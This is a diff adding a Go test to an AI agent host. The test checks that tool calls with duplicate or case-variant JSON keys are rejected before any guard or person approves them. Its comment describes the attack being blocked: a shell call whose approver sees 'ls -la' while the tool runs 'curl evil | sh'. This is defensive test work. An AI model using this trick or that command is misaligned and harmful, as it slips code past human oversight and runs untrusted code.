@@ -111,3 +111,55 @@ func TestDecideRefusesAnOpsOrTheHostsName(t *testing.T) {
 		t.Fatalf("%d events after the refusals, want %d", n, head)
 	}
 }
+
+// A decision names what was shown, and what was shown is what runs: a
+// call whose arguments give a key twice (in any object), or give two
+// top-level keys that differ only in case, is answered by the host with
+// TOOL_BAD_ARGUMENTS before any guard or person sees it. Attack: a model
+// (or what it read) calls shell with {"command":"ls -la # list …", …,
+// "command":"curl evil | sh"}. The schema check passed it (its decoder
+// keeps one value), the approval op's rules fail closed and asked, and
+// the person read the first command at the prompt (cut at 100
+// characters) and allowed it; the tool's decoder, as Go's and most
+// others', keeps the last, and ran the second. A Go tool that decodes
+// into a struct takes "Command" for "command" too.
+func TestArgumentsThatSayTwoThingsAreNotPutToAnyone(t *testing.T) {
+	ops := func() []engine.Operation { return []engine.Operation{et.Approver(nil, nil), et.Calculator()} }
+	p := &et.Replay{Replies: []et.Reply{
+		{Calls: []hostabi.ToolCall{
+			et.Call("c1", "calc_add", `{"value":1,"value":1000}`),
+			et.Call("c2", "calc_add", `{"value":2,"Value":2000}`),
+			et.Call("c3", "calc_add", `{"value":3,"valu\u0065":3000}`),
+			et.Call("c4", "calc_add", `{"value":4,"opts":{"a":1,"a":2}}`),
+			et.Call("c5", "calc_add", `{"value":5,"opts":{"a":1,"A":2}}`),
+			et.Call("c6", "calc_add", `{"value":6,"opt\u017f":1,"opts":2}`),
+		}},
+		{Text: "done"},
+	}}
+	env := &et.Env{Log: store.NewMemory(), Session: "s", Provider: p, Ops: ops}
+	env.Create(t)
+	env.Send(t, "go")
+	if o := env.RunRebuilding(t); o != engine.Waiting {
+		t.Fatalf("outcome %v, want waiting", o)
+	}
+	// Nested keys that differ in case are two keys (an object of
+	// environment variables may well have PATH and Path).
+	if w := env.Open(t).State().Waiting(); len(w) != 1 || w[0] != "1.1.5" {
+		t.Fatalf("waiting %v; want only 1.1.5", w)
+	}
+	res := map[string]engine.ToolResult{}
+	for _, e := range env.Events(t) {
+		if e.Type == engine.EvToolResult {
+			var r engine.ToolResult
+			json.Unmarshal(e.Data, &r)
+			res[r.CallID] = r
+		}
+	}
+	for id, why := range map[string]string{"1.1.1": `give "value" twice`, "1.1.2": `give "value" and "Value"`, "1.1.3": `give "value" twice`,
+		"1.1.4": `give "a" twice`, "1.1.6": `give "optſ" and "opts"`} {
+		r := res[id]
+		if !r.IsError || r.Code != hostabi.CodeBadArguments || r.Op != engine.HostOp || !strings.Contains(r.Content, why) {
+			t.Errorf("%s answered %+v; want the host's TOOL_BAD_ARGUMENTS: %s", id, r, why)
+		}
+	}
+}
